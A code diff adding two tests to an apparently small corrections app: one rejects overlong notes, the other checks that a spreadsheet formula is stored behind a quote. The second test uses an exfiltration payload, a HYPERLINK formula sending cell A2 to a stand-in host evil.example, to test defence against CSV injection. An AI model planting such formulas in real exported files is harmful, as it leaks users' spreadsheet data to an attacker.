@@ -91,6 +91,21 @@ def test_an_invalid_value_is_refused_in_words_and_nothing_is_written(own_folder)
     assert metric(at, "Engagements") == "3"
 
 
+def test_a_note_too_long_is_refused_in_the_page_and_nothing_is_written(own_folder):
+    at = correct(run_app(), "occasion", "Forum", "x" * 131_073)  # once past the csv module's field limit
+    assert "note too long (131,073 characters; at most 2,000)" in at.error[0].value.replace("\\", "")
+    assert not (own_folder / CORRECTIONS_FILE_NAME).exists()
+
+
+def test_a_formula_saved_in_the_page_is_kept_behind_a_quote_and_shown_as_typed(own_folder):
+    leak = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
+    at = correct(run_app(), "occasion", leak, "+1 for the caption")
+    [saved] = rows(own_folder)  # as a spreadsheet reads the file: text, no formula
+    assert (saved["value"], saved["note"]) == ("'" + leak, "'+1 for the caption")
+    assert side_by_side(at)[0] | {"extracted": ""} == {"field": "Occasion", "extracted": "", "value": leak,
+                                                       "note": "+1 for the caption"}
+
+
 def test_a_correction_is_taken_back_with_its_field(own_folder):
     at = correct(run_app(), "location_city", "Beijing")
     assert side_by_side(at)[0]["extracted"] == "Zhengzhou"
